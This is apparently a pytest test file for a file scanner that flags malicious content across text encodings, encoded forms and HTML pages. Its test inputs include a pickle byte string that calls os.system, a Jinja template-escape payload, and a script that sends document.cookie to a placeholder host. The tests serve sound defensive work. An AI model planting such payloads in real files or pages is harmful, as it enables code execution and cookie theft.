"""A text is read as everything that a loader may read it as, in any encoding."""

from __future__ import annotations

import base64

import pytest

from ancile.scan.examine import Examination, examine_part
from ancile.scan.part import Part

CALL = b"cos\nsystem\n(Vx\ntR."


def examined(data: bytes, name: str = "file.txt") -> Examination:
    return examine_part(Part(name, data))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_texts_in_wide_letters_are_the_same_texts(encoding: str) -> None:
    assert examined("import os\nos.system('x')\n".encode(encoding), "m.py").verdict == "block"
    assert examined("You {{ ''.__class__.__mro__ }}".encode(encoding), "chat.jinja").verdict == "block"
    assert examined("A plain text about a model.\n".encode(encoding)).verdict == "data-only"


def test_numbers_are_no_wide_text() -> None:
    assert examined(bytes(range(1, 200)) * 3).format != "text"
    assert examined(b"\x00\x9c" * 40).format != "text"


@pytest.mark.parametrize("before", [b"a line\n" * 20, b'{"a": 1}\n', b"%PDF-1.4\n%%EOF\n"])
def test_a_pickle_among_the_lines_of_a_text_is_found(before: bytes) -> None:
    assert examined(before + CALL).verdict == "block"


def test_words_that_look_like_a_look_up_are_words() -> None:
    assert examined(b"tan\ncos\nsin\n(a)\ncsys\nmodules\n" * 9).verdict == "data-only"


def test_what_is_encoded_in_a_short_text_is_judged() -> None:
    assert examined(base64.b64encode(CALL * 3)).verdict == "block"
    assert examined((CALL * 2).hex().encode()).verdict == "block"
    assert examined(base64.b64encode(b"nothing but words, " * 9)).verdict == "data-only"


@pytest.mark.parametrize(
    ("page", "verdict"),
    [
        ("<html><script>fetch('http://x/' + document.cookie)</script></html>", "review"),
        ("<svg xmlns='x' onload='fetch(\"http://x\")'/>", "review"),
        ("<!DOCTYPE html><html><script>plot(data)</script></html>", "data-only"),
        ("# A card\n<script>fetch('x')</script>", "data-only"),
    ],
)
def test_a_page_gets_the_verdict_of_its_scripts(page: str, verdict: str) -> None:
    assert examined(page.encode()).verdict == verdict


@pytest.mark.parametrize(
    "text",
    [
        "click\ncolorama\n",
        "I am a card.\nIt is good.\n",
        "Version 1\nfoo\n",
        "isympy\nsympy\n",
        "cos\nsin\n",
        "l.txt\n",
    ],
)
def test_words_in_lines_are_no_pickle(text: str) -> None:
    found = examined(text.encode())
    assert (found.format, found.verdict) == ("text", "data-only")
